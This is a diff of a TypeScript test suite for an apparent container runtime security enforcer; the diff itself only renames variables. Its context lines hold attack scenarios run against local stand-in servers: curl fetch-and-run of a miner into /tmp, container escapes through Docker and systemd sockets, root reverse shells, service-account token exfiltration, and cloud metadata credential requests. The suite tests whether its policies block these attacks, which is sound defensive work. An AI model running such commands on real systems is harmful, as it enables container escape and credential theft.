@@ -57,7 +57,7 @@ interface Scenario {
 const rig = useRig();
 let stage: Stage;
 /** What reached the servers that play the far end. */
-const heard: string[] = [];
+const received: string[] = [];
 const servers: (Server | HttpServer)[] = [];
 let webPort = 0;
 let shellPort = 0;
@@ -78,7 +78,7 @@ const web = (name: string): HttpServer =>
       body += chunk;
     });
     request.on('end', () => {
-      heard.push(`${name} ${request.method} ${request.url} ${body}`);
+      received.push(`${name} ${request.method} ${request.url} ${body}`);
       response.end(request.url === '/miner' ? readFileSync(operations()) : 'answer');
     });
   });
@@ -86,15 +86,15 @@ const web = (name: string): HttpServer =>
 /** Remembers all lines; says `greeting` first. */
 const plain = (name: string, greeting: string): Server =>
   createServer((socket) => {
-    socket.on('data', (chunk) => heard.push(`${name} ${chunk}`));
-    socket.on('error', (error) => heard.push(`${name} ${error.message}`));
+    socket.on('data', (chunk) => received.push(`${name} ${chunk}`));
+    socket.on('error', (error) => received.push(`${name} ${error.message}`));
     socket.write(greeting);
   });
 
-const hears =
+const receives =
   (text: string): Landed =>
   () =>
-    heard.some((line) => line.includes(text));
+    received.some((line) => line.includes(text));
 const succeeds =
   ({ code }: Ended): Landed =>
   () =>
@@ -148,7 +148,7 @@ async function dropped(stage: Stage, name: string, port = 3333): Promise<Landed>
   await stage.sh(
     `set -e; curl -sfo /tmp/${name} http://127.0.0.1:${webPort}/miner; chmod +x /tmp/${name}; /tmp/${name} pool ${POOL} ${port}`,
   );
-  return hears('pool {"method":"mining.subscribe"}');
+  return receives('pool {"method":"mining.subscribe"}');
 }
 
 function withToken(stage: Stage, token = TOKEN): void {
@@ -173,7 +173,7 @@ const escaping = (
   ...(behind === undefined ? {} : { behind }),
 });
 
-/** Who starts containers for whoever asks, by its socket. */
+/** Who starts containers for anyone who asks, by its socket. */
 const ENGINES: Readonly<Record<string, string>> = {
   docker: '/run/docker.sock',
   'cri-dockerd': '/run/cri-dockerd.sock',
@@ -247,7 +247,7 @@ const ESCAPES: readonly Scenario[] = [
       async (stage) => {
         const request = `-d '{"Privileged":true}' http://engine/containers/create`;
         await stage.sh(`curl -s --unix-socket ${stage.share(socket)} ${request}`);
-        return hears(`${name} POST /containers/create {"Privileged":true}`);
+        return receives(`${name} POST /containers/create {"Privileged":true}`);
       },
       'runtime-sockets',
     ),
@@ -258,7 +258,7 @@ const ESCAPES: readonly Scenario[] = [
       stage.mount('opt', '--bind', '/run');
       const request = 'curl -s --unix-socket /opt/other/private -d StartUnit http://init/';
       await stage.sh(`mv /opt/systemd /opt/other; ${request}; mv /opt/other /opt/systemd`);
-      return hears('init POST / StartUnit');
+      return receives('init POST / StartUnit');
     },
     'runtime-sockets',
   ),
@@ -268,7 +268,7 @@ const ESCAPES: readonly Scenario[] = [
       stage.mount('opt', '--bind', '/run');
       const request = 'curl -s --unix-socket /opt/other -d x http://engine/containers/create';
       await stage.sh(`mv /opt/docker.sock /opt/other; ${request}; mv /opt/other /opt/docker.sock`);
-      return hears('docker POST /containers/create x');
+      return receives('docker POST /containers/create x');
     },
     'runtime-sockets',
   ),
@@ -402,7 +402,7 @@ const PROGRAMS: readonly Scenario[] = [
     policies: ['no-shell'],
     async attack(stage) {
       await stage.run(['/usr/bin/acts', 'run', '/usr/bin/bash', '-c', SHELL()]);
-      return hears('shell uid=0(root)');
+      return receives('shell uid=0(root)');
     },
     refusedBy: ['shell'],
   },
@@ -411,7 +411,7 @@ const PROGRAMS: readonly Scenario[] = [
     policies: ['no-shell', 'immutable-image'],
     async attack(stage) {
       await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
-      return hears('shell uid=0(root)');
+      return receives('shell uid=0(root)');
     },
     refusedBy: ['drift'],
   },
@@ -421,7 +421,7 @@ const PROGRAMS: readonly Scenario[] = [
     async attack(stage) {
       withToken(stage);
       await stage.sh(`curl -s -d @/var${TOKEN} http://127.0.0.1:${webPort}/token`);
-      return hears('web POST /token eyJhbGciOi');
+      return receives('web POST /token eyJhbGciOi');
     },
     refusedBy: ['token-by-shell'],
   },
@@ -432,7 +432,7 @@ const PROGRAMS: readonly Scenario[] = [
       async attack(stage) {
         withToken(stage, token);
         await stage.sh(`curl -s -d "$(cat /var${token})" http://127.0.0.1:${webPort}/token`);
-        return hears('web POST /token eyJhbGciOi');
+        return receives('web POST /token eyJhbGciOi');
       },
       refusedBy: ['token-by-shell'],
     }),
@@ -443,7 +443,7 @@ const PROGRAMS: readonly Scenario[] = [
     async attack(stage) {
       withToken(stage);
       await stage.run(['/usr/bin/curl', '-s', '-d', `@/var${TOKEN}`, `http://127.0.0.1:${webPort}/token`]);
-      return hears('web POST /token eyJhbGciOi');
+      return receives('web POST /token eyJhbGciOi');
     },
     refusedBy: ['token-by-downloader'],
   },
@@ -455,7 +455,7 @@ const PROGRAMS: readonly Scenario[] = [
         const zone = address.startsWith('fe80:') ? '%25far0' : '';
         const host = address.includes(':') ? `[${address}${zone}]` : address;
         await stage.sh(`curl -s 'http://${host}/latest/meta-data/iam/security-credentials/'`);
-        return hears('metadata GET /latest/meta-data/iam/security-credentials/');
+        return receives('metadata GET /latest/meta-data/iam/security-credentials/');
       },
       refusedBy: ['metadata'],
     }),
@@ -485,7 +485,7 @@ const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
     policies: ['escape-guard'],
     async attack(stage) {
       await stage.sh(`curl -s --unix-socket ${stage.share('/run/engine')} -d x http://engine/containers/create`);
-      return hears('engine POST /containers/create x');
+      return receives('engine POST /containers/create x');
     },
   },
   {
@@ -495,7 +495,7 @@ const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
       stage.mount('opt', '--bind', '/run');
       const request = 'curl -s --unix-socket /opt/other -d x http://engine/containers/create';
       await stage.sh(`mv /opt/engine /opt/other; ${request}; mv /opt/other /opt/engine`);
-      return hears('engine POST /containers/create x');
+      return receives('engine POST /containers/create x');
     },
   },
   {
@@ -509,7 +509,7 @@ const SLIPS: readonly Omit<Scenario, 'refusedBy'>[] = [
     policies: ['no-shell'],
     async attack(stage) {
       await stage.run([...COPY_SHELL, 'run', '/tmp/sh-x', '-c', SHELL()]);
-      return hears('shell uid=0(root)');
+      return receives('shell uid=0(root)');
     },
   },
   {
@@ -565,7 +565,7 @@ function restore(): void {
   if (existsSync('/sys/module/nlmon')) execFileSync('rmmod', ['nlmon']);
   for (const file of ['etc/ld.so.preload', 'tmp/held', 'tmp/go']) rmSync(path.join(stage.root, file), { force: true });
   rmSync(path.join(stage.host, 'proof'), { force: true });
-  heard.length = 0;
+  received.length = 0;
 }
 afterEach(restore);
 
@@ -574,7 +574,7 @@ async function played(attack: Scenario['attack'], set: PolicySet | null): Promis
   if (set === null) rig.object.maps.pods.delete(stage.pod.uid);
   else stage.pod.put(set);
   const landed = await attack(stage);
-  if (set === null) await waitFor(landed, { what: 'the attack to land', state: () => [heard, stage.lastLines()] });
+  if (set === null) await waitFor(landed, { what: 'the attack to land', state: () => [received, stage.lastLines()] });
   const outcome: [boolean, string[]] = [landed(), set === null ? [] : Object.keys(stage.pod.counts()).sort()];
   restore();
   return outcome;
@@ -600,7 +600,7 @@ describe('what slips by', () => {
   it.each(SLIPS.map((scenario) => [scenario.name, scenario] as const))('%s', async (_name, scenario) => {
     stage.pod.put(readySet(...scenario.policies));
     const landed = await scenario.attack(stage);
-    await waitFor(landed, { what: 'the attack to land', state: () => [heard, stage.lastLines()] });
+    await waitFor(landed, { what: 'the attack to land', state: () => [received, stage.lastLines()] });
     expect(stage.pod.counts()).toEqual({});
   });
 });
@@ -616,15 +616,15 @@ describe('raw sockets', () => {
   /** Hears datagrams on loopback, and from which addresses they claim to come. */
   async function listener(
     type: 'udp4' | 'udp6',
-  ): Promise<{ port: string; from: string[]; heardOne(): Promise<void> } & Disposable> {
+  ): Promise<{ port: string; from: string[]; receivedOne(): Promise<void> } & Disposable> {
     const socket = createSocket(type);
     const from: string[] = [];
     socket.on('message', (_text, { address }) => from.push(address));
     socket.bind(0, type === 'udp4' ? '127.0.0.1' : '::1');
     await once(socket, 'listening');
-    const heardOne = async () =>
+    const receivedOne = async () =>
       void (await waitFor(() => from.length > 0, { what: 'the forged packet', state: () => stage.lastLines() }));
-    return { port: `${socket.address().port}`, from, heardOne, [Symbol.dispose]: () => socket.close() };
+    return { port: `${socket.address().port}`, from, receivedOne, [Symbol.dispose]: () => socket.close() };
   }
 
   it('spoofing - lands without a policy and its maker is known by the cookie; with the ready one there is no socket', async () => {
@@ -632,7 +632,7 @@ describe('raw sockets', () => {
     const forge = () => stage.ops('forge', FORGED, '127.0.0.1', far.port);
     rig.object.maps.pods.delete(stage.pod.uid);
     const { lines } = await forge();
-    await far.heardOne();
+    await far.receivedOne();
     expect(far.from).toEqual([FORGED]);
     const { tgid, maker: found } = maker(lines);
     expect(found).toMatchObject({ ...known, tgid, pod: stage.pod.uid, family: 2, protocol: 255 });
@@ -648,13 +648,13 @@ describe('raw sockets', () => {
       stage.run([...AS_CONTAINERS_ARE, '/usr/bin/scenario-ops', 'transparent', FORGED, '127.0.0.1', far.port]);
     rig.object.maps.pods.delete(stage.pod.uid);
     expect((await forge()).lines).toEqual(['landed']);
-    await far.heardOne();
+    await far.receivedOne();
     expect(far.from.splice(0)).toEqual([FORGED]);
     stage.pod.put(readySet('no-raw-sockets'));
     expect((await forge()).lines).toEqual(['transparent: EPERM']);
     expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
     await stage.run([...AS_CONTAINERS_ARE, '/usr/bin/bash', '-c', `echo x > /dev/udp/127.0.0.1/${far.port}`]);
-    await far.heardOne();
+    await far.receivedOne();
     expect(far.from).toEqual(['127.0.0.1']);
     expect(stage.pod.counts()).toEqual({ 'net-raw': 1 });
   });
@@ -663,7 +663,7 @@ describe('raw sockets', () => {
     using far = await listener('udp4');
     stage.pod.put(readySet('no-raw-sockets'));
     expect((await stage.ops('transparent', FORGED, '127.0.0.1', far.port)).lines).toEqual(['landed']);
-    await far.heardOne();
+    await far.receivedOne();
     expect([far.from, stage.pod.counts()]).toEqual([[FORGED], { 'net-raw': 1 }]);
   });
 
@@ -673,7 +673,7 @@ describe('raw sockets', () => {
     const without = ['/usr/bin/setpriv', '--inh-caps=-all', '--bounding-set=-all'];
     const forge = ['/usr/bin/scenario-ops', 'freebind', '2001:db8::9', '::1', far.port];
     expect((await stage.run([...without, ...forge])).lines).toEqual(['landed']);
-    await far.heardOne();
+    await far.receivedOne();
     expect([far.from, stage.pod.counts()]).toEqual([['2001:db8::9'], {}]);
   });
 
